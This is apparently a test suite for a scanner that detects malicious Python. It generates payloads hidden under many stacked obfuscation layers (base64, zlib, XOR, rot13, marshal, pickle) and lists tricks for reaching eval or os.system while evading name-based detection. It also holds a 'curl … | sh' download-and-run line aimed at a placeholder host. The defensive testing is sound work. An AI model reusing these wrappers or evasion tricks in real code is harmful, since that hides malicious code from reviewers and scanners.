// Payloads wrapped in every way that harmful scripts use, layer on layer: each must be unwrapped to its last one.
import { deflateSync, gzipSync } from 'node:zlib'
import { loadKnowledge } from '@sentinel/knowledge'
import { loadParser } from '@sentinel/scanner'
import { beforeAll, describe, expect, it } from 'vitest'
import { analyseScript } from '../analyseScript.ts'
import { indexKnowledge } from '../knowledgeIndex.ts'
import type { PythonParser } from '../parse/parser.ts'
import { furtherWraps } from './wraps.ts'

const knowledge = indexKnowledge(loadKnowledge())
let parser: PythonParser
beforeAll(async () => {
  parser = await loadParser()
})

const analyse = (text: string) =>
  analyseScript({ path: 'payload.py', text, parser, knowledge, secretKey: Buffer.from('layers') })

const base64 = (text: string) => Buffer.from(text).toString('base64')
const quoted = (text: string) => JSON.stringify(text)
const codes = (text: string) => [...Buffer.from(text)]
const turned = (text: string) =>
  text.replaceAll(/[a-z]/gi, (letter) => {
    const base = letter <= 'Z' ? 65 : 97
    return String.fromCharCode(((letter.charCodeAt(0) - base + 13) % 26) + base)
  })
const halves = (text: string) => [text.slice(0, text.length / 2), text.slice(text.length / 2)]

type Wrap = (code: string) => string

const wraps: Record<string, Wrap> = {
  base64: (code) => `import base64\nexec(base64.b64decode('${base64(code)}'))`,
  base64Text: (code) => `from base64 import b64decode as d\nexec(d("${base64(code)}").decode("utf-8"))`,
  zlib: (code) =>
    `import zlib, base64\nexec(zlib.decompress(base64.b64decode('${deflateSync(code).toString('base64')}')))`,
  gzip: (code) =>
    `import gzip, base64\nexec(gzip.decompress(base64.b64decode(b'${gzipSync(code).toString('base64')}')).decode())`,
  hex: (code) => `exec(bytes.fromhex('${Buffer.from(code).toString('hex')}').decode())`,
  unhexlify: (code) => `import binascii\nexec(binascii.unhexlify('${Buffer.from(code).toString('hex')}'))`,
  rot13: (code) => `import codecs\nexec(codecs.decode(${quoted(turned(code))}, 'rot_13'))`,
  reversed: (code) => `exec(${quoted([...code].reverse().join(''))}[::-1])`,
  numbers: (code) => `exec(''.join(chr(n) for n in [${codes(code)}]))`,
  mapChr: (code) => `exec(''.join(map(chr, [${codes(code)}])))`,
  byteList: (code) => `exec(bytes([${codes(code)}]).decode())`,
  xor: (code) => `exec(''.join(chr(b ^ 23) for b in [${codes(code).map((byte) => byte ^ 23)}]))`,
  xorKey: (code) => {
    const key = [3, 141, 59]
    const data = codes(code).map((byte, at) => byte ^ (key[at % 3] as number))
    return `key = [3, 141, 59]\ndata = [${data}]\nexec(bytes(b ^ key[i % len(key)] for i, b in enumerate(data)))`
  },
  shifted: (code) =>
    `out = ''\nfor c in ${quoted(
      codes(code)
        .map((byte) => String.fromCharCode(byte + 2))
        .join(''),
    )}:\n    out += chr(ord(c) - 2)\nexec(out)`,
  split: (code) =>
    `a = ${quoted(halves(base64(code))[0] ?? '')}\nb = ${quoted(halves(base64(code))[1] ?? '')}\nimport base64\nexec(base64.b64decode(a + b))`,
  joined: (code) => `exec(''.join([${[...code].map(quoted).join(', ')}]))`,
  imported: (code) => `exec(__import__('base64').b64decode(${quoted(base64(code))}))`,
  lambda: (code) =>
    `_ = lambda d: __import__('zlib').decompress(__import__('base64').b64decode(d[::-1]))\nexec((_)(b'${[...deflateSync(code).toString('base64')].reverse().join('')}'))`,
  compiled: (code) =>
    `import base64\neval(compile(base64.b64decode('${base64(code)}').decode(), '<string>', 'exec'))`,
  getattr: (code) =>
    `import base64, builtins\ngetattr(builtins, 'ex' + 'ec')(base64.b64decode('${base64(code)}'))`,
  escaped: (code) =>
    `exec("${codes(code)
      .map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`)
      .join('')}")`,
  chrChain: (code) =>
    `exec(${codes(code)
      .map((byte) => `chr(${byte})`)
      .join('+')})`,
  replaced: (code) => `exec(${quoted([...code].join('~!'))}.replace('~!', ''))`,
  function: (code) =>
    `def reveal(data):\n    import base64\n    return base64.b64decode(data)\nexec(reveal('${base64(code)}'))`,
  ...furtherWraps,
}

const CORE = "import os\nos.system(input('last layer'))"

const reaches = (script: string): boolean => {
  const { findings } = analyse(script)
  return findings.some(
    (finding) => finding.rule === 'command-injection' && finding.excerpt.includes('last layer'),
  )
}

const names = Object.keys(wraps)
const wrapped = (chain: readonly string[]) => chain.reduce((code, name) => (wraps[name] as Wrap)(code), CORE)

/** Pairs and triples that meet every wrap inside and outside another. */
const chains = names.flatMap((name, at) => [
  [name],
  [name, names[(at + 5) % names.length] as string],
  [name, names[(at + 11) % names.length] as string],
])

describe('unwrapping', () => {
  it('has at least forty layered payloads', () => {
    expect(chains.filter((chain) => chain.length > 1).length).toBeGreaterThanOrEqual(40)
  })

  it.each(chains.map((chain) => [chain.join(' in '), chain] as const))(
    'reaches the last layer of %s',
    (_title, chain) => {
      expect(reaches(wrapped(chain))).toBe(true)
    },
  )

  it('goes through twelve layers and names the way', () => {
    const chain = Array.from({ length: 12 }, (_, at) => (at % 2 === 0 ? 'base64' : 'zlib'))
    const { layers, findings } = analyse(wrapped(chain))
    expect(layers).toHaveLength(12)
    expect(layers[0]?.how).toEqual(['base64', 'zlib', 'exec'])
    expect(findings.map((finding) => finding.rule)).toContain('hidden-code-run')
  })

  it('reads the names out of a marshalled code object', () => {
    const { layers } = analyse(
      "import marshal\nexec(marshal.loads(b'\\xe3\\x00\\x00\\x00\\x00\\xda\\x06systemz\\x06whoami'))",
    )
    expect(layers[0]?.excerpt).toContain('system')
  })

  it('runs what a pickle would call', () => {
    const { findings } = analyse(
      'import pickle\npickle.loads(b"cos\\nsystem\\n(S\'curl http://h.invalid/x | sh\'\\ntR.")',
    )
    expect(findings.map((finding) => finding.rule)).toContain('command-downloads')
  })

  it('tries what a marshalled code object may call with its constants', () => {
    const { findings } = analyse(
      "import marshal\nexec(marshal.loads(b'\\xe3\\x00\\xda\\x06systemz\\x1ccurl http://h.invalid/x | sh\\x00'))",
    )
    expect(findings.map((finding) => finding.rule)).toContain('command-downloads')
  })

  it('does not take decoded data for code', () => {
    const { layers, findings } = analyse("import base64\nprint(base64.b64decode('aGVsbG8gd29ybGQ='))")
    expect([layers, findings]).toEqual([[], []])
  })
})

describe('ways round a scanner of names', () => {
  it.each([
    'e = eval\ne(input())',
    'import os\ngetattr(os, "system")(input())',
    '__import__("os").system(input())',
    'b = __builtins__\nb.eval(input())',
    'import os\nvars(os)["system"](input())',
    'import os\nos.__dict__["sys" + "tem"](input())',
    'import sys\nsys.modules["os"].system(input())',
    'globals()["__builtins__"].eval(input())',
    'from os import *\nsystem(input())',
    'import importlib\nimportlib.import_module("o" + "s").popen(input())',
    '\u{1d41e}\u{1d42f}\u{1d41a}\u{1d425}(input())',
    'import os\nos.__getattribute__("system")(input())',
    'eval.__call__(input())',
    '(lambda: 0).__globals__["__builtins__"].eval(input())',
  ])('finds %s', (script) => {
    const rules = analyse(script).findings.map((finding) => finding.rule)
    expect(rules.some((rule) => rule === 'code-injection' || rule === 'command-injection')).toBe(true)
  })
})
